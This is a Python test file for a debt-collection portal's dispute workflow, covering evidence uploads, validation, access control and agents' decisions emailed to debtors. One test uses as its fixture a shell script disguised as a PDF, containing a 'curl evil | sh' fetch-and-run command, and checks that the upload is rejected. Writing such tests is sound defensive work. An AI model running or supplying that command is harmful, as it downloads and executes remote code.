"""A debtor disputes a case with evidence; an agent decides; the debtor reads the answer."""

from __future__ import annotations

import json

from sqlalchemy import func, select

from portal.disputes.models import Dispute, DisputeState
from portal.extensions import db
from portal.ledger.models import LedgerEvent
from portal.uploads.models import Upload
from tests.disputes.conftest import PDF, dispute, token


def _count(app, model) -> int:
    with app.app_context():
        n = db.session.scalar(select(func.count()).select_from(model))
        db.session.remove()
    return n


def _dispute_id(app) -> int:
    with app.app_context():
        return db.session.scalars(select(Dispute.id)).one()


def test_a_debtor_disputes_with_a_file_and_the_ledger_hears_of_it(app, debtor):
    debtor.has_case()
    response = dispute(debtor, files=[("bank statement.pdf", PDF)])
    assert response.status_code == 303
    page = debtor.client.get(response.location).get_data(as_text=True)
    assert "Being looked into" in page and "paused" in page and "bank statement.pdf" in page
    assert "Send my dispute" not in page  # one open dispute at a time
    with app.app_context():
        event = db.session.scalars(select(LedgerEvent)).one()
        payload = json.loads(event.payload)
        upload_id = db.session.scalars(select(Upload.id)).one()
    assert (payload["type"], payload["data"]) == (
        "case.disputed", {"reason_code": "already_paid", "message": "I paid this in June by bank transfer."})
    assert debtor.client.get(f"/files/{upload_id}").data == PDF


def test_a_script_named_pdf_is_refused_at_the_field_and_nothing_is_kept(app, debtor):
    debtor.has_case()
    response = dispute(debtor, files=[("proof.pdf", b"#!/bin/sh\ncurl evil | sh\n")])
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "proof.pdf" in page and "is not a PDF, JPEG or PNG" in page and 'aria-invalid="true"' in page
    assert "I paid this in June" in page  # the debtor's words are not lost
    assert (_count(app, Dispute), _count(app, Upload), _count(app, LedgerEvent)) == (0, 0, 0)


def test_too_many_files_are_refused(app, debtor):
    debtor.has_case()
    response = dispute(debtor, files=[(f"p{i}.pdf", PDF) for i in range(6)])
    assert response.status_code == 400 and "at most 5 files" in response.get_data(as_text=True)
    assert (_count(app, Dispute), _count(app, Upload)) == (0, 0)


def test_a_missing_reason_and_message_are_named(debtor):
    debtor.has_case()
    response = dispute(debtor, reason="", message="")
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "Choose the reason that fits best." in page and "Tell us in a few words what happened." in page


def test_a_second_dispute_while_one_is_open_is_refused(app, debtor):
    debtor.has_case()
    assert dispute(debtor).status_code == 303
    again = dispute(debtor, message="Again")
    assert again.status_code == 400 and "already disputed" in again.get_data(as_text=True)
    assert _count(app, Dispute) == 1


def test_another_debtors_dispute_page_is_not_found(app, debtor):
    from tests import factories
    debtor.has_case()
    with app.app_context():
        other = factories.case().reference
    assert debtor.client.get(f"/cases/{other}/dispute").status_code == 404


def test_an_agent_does_not_uphold_and_the_debtor_reads_why(app, debtor, agent, mailbox):
    debtor.has_case(email="marie@example.fr")
    dispute(debtor, files=[("receipt.pdf", PDF)])
    queue = agent.get("/agent/disputes").get_data(as_text=True)
    assert debtor.reference in queue
    dispute_id = _dispute_id(app)
    page = agent.get(f"/agent/disputes/{dispute_id}").get_data(as_text=True)
    assert "I paid this in June" in page and "receipt.pdf" in page
    path = f"/agent/disputes/{dispute_id}/decide"
    blank = agent.post(path, data={"csrf_token": token(agent, f"/agent/disputes/{dispute_id}"),
                                   "decision": "not_upheld", "explanation": ""})
    assert blank.status_code == 400 and "Explain to the debtor" in blank.get_data(as_text=True)
    answer = "The transfer of June went to another case of yours, AK-OTHER."
    done = agent.post(path, data={"csrf_token": token(agent, f"/agent/disputes/{dispute_id}"),
                                  "decision": "not_upheld", "explanation": answer})
    assert done.status_code == 303
    mail = mailbox.sent[-1]
    assert mail["To"] == "marie@example.fr" and answer in mail.get_content()
    assert debtor.reference in mail["Subject"]
    mine = debtor.client.get(f"/cases/{debtor.reference}/dispute").get_data(as_text=True)
    assert "Not upheld" in mine and answer in mine and "Send my dispute" in mine
    assert mine.count("<h1") == 1  # the form to dispute again is a section under the answer
    assert debtor.reference not in agent.get("/agent/disputes").get_data(as_text=True)
    again = agent.post(path, data={"csrf_token": token(agent, f"/agent/disputes/{dispute_id}"),
                                   "decision": "upheld", "outcome": "close"})
    assert again.status_code == 303
    with app.app_context():
        assert db.session.get(Dispute, dispute_id).state == DisputeState.not_upheld


def test_an_upheld_correction_needs_the_amount_and_is_shown(app, debtor, agent, mailbox):
    debtor.has_case(email="marie@example.fr")
    dispute(debtor, reason="wrong_amount", message="The fees were never agreed.")
    dispute_id = _dispute_id(app)
    path = f"/agent/disputes/{dispute_id}/decide"
    missing = agent.post(path, data={"csrf_token": token(agent, f"/agent/disputes/{dispute_id}"),
                                     "decision": "upheld", "outcome": "correct"})
    assert missing.status_code == 400 and "Enter the corrected total." in missing.get_data(as_text=True)
    done = agent.post(path, data={"csrf_token": token(agent, f"/agent/disputes/{dispute_id}"),
                                  "decision": "upheld", "outcome": "correct", "corrected_total": "104.50"})
    assert done.status_code == 303
    mine = debtor.client.get(f"/cases/{debtor.reference}/dispute").get_data(as_text=True)
    assert "Upheld" in mine and "€104.50" in mine
    assert "€104.50" in mailbox.sent[-1].get_content()


def test_debtors_cannot_open_the_agents_pages(app, debtor):
    debtor.has_case()
    dispute(debtor)
    assert debtor.client.get("/agent/disputes").status_code == 403
    assert debtor.client.get(f"/agent/disputes/{_dispute_id(app)}").status_code == 403


def test_the_case_page_and_the_back_office_link_to_disputes(debtor, agent):
    debtor.has_case()
    assert f'href="/cases/{debtor.reference}/dispute"' in debtor.client.get(f"/cases/{debtor.reference}").get_data(as_text=True)
    assert 'href="/agent/disputes"' in agent.get("/agent/").get_data(as_text=True)
